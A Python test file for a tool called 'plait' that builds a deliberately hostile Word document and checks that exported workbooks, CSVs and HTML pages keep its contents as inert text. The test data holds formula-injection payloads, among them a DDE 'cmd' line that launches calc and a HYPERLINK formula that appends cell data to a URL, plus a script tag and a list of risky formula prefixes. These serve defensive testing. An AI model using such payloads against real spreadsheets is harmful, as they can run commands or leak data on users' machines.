"""A Word file that means harm, taken through plait: its words must stay words."""
import csv
import subprocess
from pathlib import Path

import docx
import openpyxl

from ledger import Failed, require
from pages import Page
from workbooks import TOTAL

STATEMENTS = [
    '=HYPERLINK("https://example.org/?"&A1,"Open me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 and then some words",
    "@SUM(A1:A9) of the shift",
    "\uff1d1+1 in wide letters",
    "<script>alert(1)</script> & <b>bold</b>",
]
RISKY = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def make(path):
    document = docx.Document()
    document.core_properties.title = "=1+1"
    document.add_heading("<i>Program</i> & =2+2", 1)
    table = document.add_table(1, 4)
    for cell, words in zip(table.rows[0].cells, (
            "Learning Objectives", "Adult Education & Literacy", "Workforce Preparation", "Workforce Training")):
        cell.text = words
    for statement in STATEMENTS:
        cells = table.add_row().cells
        cells[0].text = statement
        for cell, words in zip(cells[1:], ("RST.6-8.3 Follow steps.", "ESF: Communication Skills", "CNA 1.1 Does the task.")):
            cell.text = words
    document.save(path)


def run(plait, *arguments):
    done = subprocess.run([plait, *map(str, arguments)], capture_output=True, text=True, timeout=120)
    if done.returncode > 1:
        raise Failed(f"plait {' '.join(map(str, arguments))} ended with code {done.returncode}: {done.stderr[-300:]}")
    return done


def proofs(plait, folder):
    source, program = Path(folder) / "hostile.docx", Path(folder) / "hostile.iet.yaml"
    make(source)
    yield "is imported", run, plait, "import", source, "-o", program
    yield "gives a workbook without a formula of its own", workbook_is_text, plait, program, folder
    yield "gives a CSV in which no cell begins a formula", csv_is_text, plait, program, folder
    yield "gives pages in which its tags are words", page_is_text, plait, program, folder


def workbook_is_text(plait, program, folder):
    path = Path(folder) / "hostile.xlsx"
    run(plait, "crosswalk", program, "-o", path, "--force")
    texts = []
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                require(
                    cell.data_type != "f" or TOTAL.fullmatch(cell.value),
                    f"{cell.coordinate} is the formula {cell.value}")
                require(cell.hyperlink is None, f"{cell.coordinate} is a link")
                texts.append(str(cell.value))
    require(any("cmd|" in text for text in texts), "the words of the second objective are not in the workbook")


def csv_is_text(plait, program, folder):
    path = Path(folder) / "hostile.csv"
    run(plait, "crosswalk", program, "-o", path, "--force")
    with path.open(encoding="utf-8-sig", newline="") as file:
        for number, row in enumerate(csv.reader(file), 1):
            for cell in row:
                require(not cell.startswith(RISKY), f"line {number} has a cell that begins a formula: {cell[:40]}")


def page_is_text(plait, program, folder):
    for command in ("crosswalk", "syllabus"):
        path = Path(folder) / f"{command}.html"
        run(plait, command, program, "-o", path, "--force")
        require(not Page(path).faults, f"{command}: {Page(path).faults[:3]}")
        require("&lt;script&gt;" in path.read_text(encoding="utf-8"), f"{command}: the words of the last objective are missing")
